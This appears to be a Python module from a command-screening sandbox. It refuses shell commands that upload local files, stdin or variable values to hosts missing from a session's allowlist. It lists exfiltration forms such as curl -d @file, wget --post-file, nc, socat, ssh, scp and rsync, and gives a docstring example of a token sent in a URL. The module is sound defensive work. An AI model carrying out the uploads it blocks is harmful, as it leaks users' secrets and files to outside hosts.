"""Commands that send data over the network: local files and the environment may only go
to the machine itself or to hosts on the session's fetch allowlist.

Reading the web is allowed (that is what `curl URL` usually is); what is refused is
handing a file, command output or a variable's value to a host nobody listed, whatever
the tool: HTTP clients (`curl -d @f`, `-F x=@f`, `-T f`, `wget --post-file`), raw sockets
(`nc`, `socat`, `telnet`), remote shells and copies (`ssh`, `scp`, `rsync`, `sftp`).
"""

from __future__ import annotations

import re

from . import network
from .argv import option_values, positionals, short_option_values, texts
from .context import Checker, Invocation
from .model import EXFILTRATION, Denial
from .network import check_secret_in, host_of
from .shell_state import Value

# curl options that take a value (so the value is not mistaken for a URL).
CURL_VALUED = frozenset(
    {"-o", "-d", "-F", "-T", "-H", "-X", "-u", "-A", "-e", "-b", "-c", "-K", "-x", "-w", "-m",
     "-r", "-E", "-U", "-Y", "-y", "-z", "-C", "-P", "-Q", "-t", "--output", "--data",
     "--data-ascii", "--data-binary", "--data-raw", "--data-urlencode", "--form",
     "--form-string", "--json", "--upload-file", "--header", "--request", "--user",
     "--user-agent", "--referer", "--cookie", "--cookie-jar", "--config", "--proxy",
     "--write-out", "--max-time", "--connect-timeout", "--retry", "--range", "--cert",
     "--key", "--cacert", "--resolve", "--connect-to", "--interface", "--url", "--variable",
     "--limit-rate", "--unix-socket", "--output-dir", "--proxy-user", "--dns-servers"}
)  # fmt: skip
# (options whose value is sent, whether a leading `@`/`<` makes it a file)
_CURL_SENDS = {
    "-d": True, "--data": True, "--data-ascii": True, "--data-binary": True,
    "--data-urlencode": True, "--json": True, "-F": True, "--form": True,
    "--data-raw": False, "--form-string": False, "-H": False, "--header": False, "-u": False,
    "--user": False, "-b": False, "--cookie": False, "-A": False, "--user-agent": False,
    "-e": False, "--referer": False,
}  # fmt: skip
_CURL_FILES = ("-T", "--upload-file", "-K", "--config")
_WGET_FILES = ("--post-file", "--body-file")
_WGET_DATA = ("--post-data", "--body-data")
_RAW_CLIENTS = frozenset({"nc", "ncat", "netcat", "telnet", "socat"})
_REMOTE_SHELLS = frozenset({"ssh", "sftp", "ftp", "tftp"})
_REMOTE_COPIES = frozenset({"scp", "rsync"})
_HTTPIE = frozenset({"http", "https"})
_HTTP_CLIENTS = frozenset({"curl", "wget", "http", "https", "aria2c", "lynx", "w3m", "fetch"})
_SSH_VALUED = ("-p", "-i", "-l", "-o", "-F", "-b", "-P", "-J", "-L", "-R", "-D", "-W")
_SOCAT_CONNECT = re.compile(
    r"^(?:TCP[46]?|UDP[46]?|SCTP|SSL|OPENSSL|DCCP)(?:-CONNECT|-SENDTO)?:([^:,]+)", re.I
)


def check_sending(inv: Invocation, an: Checker) -> None:
    name = inv.name
    if name in _HTTP_CLIENTS:
        _urls_carry_nothing(inv, an)
    if name == "curl":
        _curl(inv, an)
    elif name == "wget":
        _wget(inv, an)
    elif name in _RAW_CLIENTS:
        _raw(inv, an)
    elif name in _REMOTE_SHELLS:
        hosts = [_ssh_host(t) for t in texts(positionals(inv.args, _SSH_VALUED))[:1]]
        _require(inv, an, hosts or [""], f"`{name}` can carry local files and commands to a host")
    elif name in _REMOTE_COPIES:
        _remote_copy(inv, an)
    elif name in _HTTPIE:
        _httpie(inv, an)


def _urls_carry_nothing(inv: Invocation, an: Checker) -> None:
    """A URL is data too: `curl "https://x.example/?k=$TOKEN"` sends the variable away."""
    for arg in inv.args:
        raw = arg.raw.strip("'\"")
        if "://" not in raw:
            continue
        if arg.text is not None:
            check_secret_in(arg.text, f"`{inv.name}`'s URL")
            continue
        # Only the part before the first expansion is known: it must name the host.
        known = re.split(r"[$`]", raw, maxsplit=1)[0]
        rest = known.split("://", 1)[1]
        host = host_of(known) if "/" in rest or "?" in rest else ""
        what = f"`{inv.name}` puts a value only known at run time in a URL"
        _require(inv, an, [host], what, reading=True)


def _sends_stdin(inv: Invocation) -> bool:
    return inv.stdin.kind not in ("none", "text")


def _local_payload(value: Value, as_file: bool) -> bool:
    """Whether an option's value carries local data: a file (`@f`, `x=@f`, `x=<f`), stdin
    (`@-`) or text only known at run time (`"$(cat .env)"`, `$TOKEN`)."""
    if value.text is None or value.subs:
        return True
    text = value.text
    return as_file and (text.startswith(("@", "<")) or "=@" in text or "=<" in text)


def _curl(inv: Invocation, an: Checker) -> None:
    args = inv.args
    sending = _sends_stdin(inv) and _reads_stdin_option(args)
    for option, as_file in _CURL_SENDS.items():
        for value in short_option_values(args, (option,), CURL_VALUED):
            sending = sending or _local_payload(value, as_file)
    sending = sending or bool(short_option_values(args, _CURL_FILES, CURL_VALUED))
    if not sending:
        return
    _require(inv, an, _urls(args, CURL_VALUED) + texts(option_values(args, ("--url",))),
             "`curl` uploads local data")  # fmt: skip


def _reads_stdin_option(args: tuple[Value, ...]) -> bool:
    return any(t in ("@-", "-") or t.endswith(("=@-", "=<-")) for t in texts(args))


def _wget(inv: Invocation, an: Checker) -> None:
    args = inv.args
    sending = bool(option_values(args, _WGET_FILES))
    sending = sending or any(_local_payload(v, False) for v in option_values(args, _WGET_DATA))
    if sending:
        _require(inv, an, _urls(args, frozenset()), "`wget` uploads local data")


def _raw(inv: Invocation, an: Checker) -> None:
    if inv.name == "socat":
        hosts = [m.group(1) for m in map(_SOCAT_CONNECT.match, texts(inv.args)) if m]
        if hosts:
            _require(inv, an, hosts, "`socat` pipes data to a host")
        return
    operands = texts(positionals(inv.args, ("-p", "-s", "-w", "-i", "-q", "-e", "-c", "-x")))
    if "z" in "".join(t[1:] for t in texts(inv.args) if t.startswith("-") and len(t) > 1):
        return  # a port probe sends nothing
    if operands and (_sends_stdin(inv) or inv.name != "telnet"):
        _require(inv, an, operands[:1], f"`{inv.name}` sends its input to a host")


def _ssh_host(text: str) -> str:
    return text.rsplit("@", 1)[-1].split(":", 1)[0]


def _remote_copy(inv: Invocation, an: Checker) -> None:
    operands = texts(positionals(inv.args, ("-e", "--rsh", "-P", "-i", "-o", "-F", "-l", "-S",
                                            "--exclude", "--include", "--filter")))  # fmt: skip
    if len(operands) < 2:
        return
    destination = operands[-1]
    if destination.startswith("rsync://") or "://" in destination:
        _require(inv, an, [destination], f"`{inv.name}` copies local files to a host")
    elif ":" in destination.split("/", 1)[0]:
        _require(inv, an, [_ssh_host(destination)], f"`{inv.name}` copies local files to a host")


def _httpie(inv: Invocation, an: Checker) -> None:
    items = texts(inv.args)
    uploads = _sends_stdin(inv) or any(
        "@" in t and not t.startswith("-") and "://" not in t for t in items
    )
    if uploads:
        operands = [t for t in items if not t.startswith("-")]
        if operands and operands[0].isupper():
            operands = operands[1:]  # the method: `http POST host ...`
        _require(inv, an, operands[:1], f"`{inv.name}` uploads local data")


def _urls(args: tuple[Value, ...], valued: frozenset[str]) -> list[str]:
    found: list[str] = []
    index = 0
    while index < len(args):
        text = args[index].text
        index += 1
        if text is None:
            if not args[index - 1].raw.startswith("-"):
                found.append("")  # a host only known at run time
        elif "://" in text:
            found.append(text)
        elif text.startswith("-"):
            index += 1 if _takes_next(text, valued) else 0
        elif text:
            found.append(text)
    return found


def _takes_next(option: str, valued: frozenset[str]) -> bool:
    """Whether `option` (maybe a cluster such as `-sSLo`) consumes the next argument."""
    if option in valued or option.startswith("--"):
        return option in valued
    for position, letter in enumerate(option[1:], start=1):
        if f"-{letter}" in valued:
            return position == len(option) - 1
    return False


def _require(
    inv: Invocation, an: Checker, targets: list[str], what: str, *, reading: bool = False
) -> None:
    """Every target must be the machine itself or listed: by the session for data leaving
    the machine, or on the whole fetch list (`reading`) for a URL that only reads."""
    hosts = [host_of(t) if t else "" for t in targets] or [""]
    for host in hosts:
        fine = host and (
            network.may_receive(host, an.config)
            or (reading and network.listed(host, network.fetch_domains(an.config)))
        )
        if not fine:
            where = host or "a host only known at run time"
            raise Denial(
                EXFILTRATION,
                f"{what} to {where}, which is not on the session's `fetch_domains` list",
                inv.text,
                hard=True,
            )
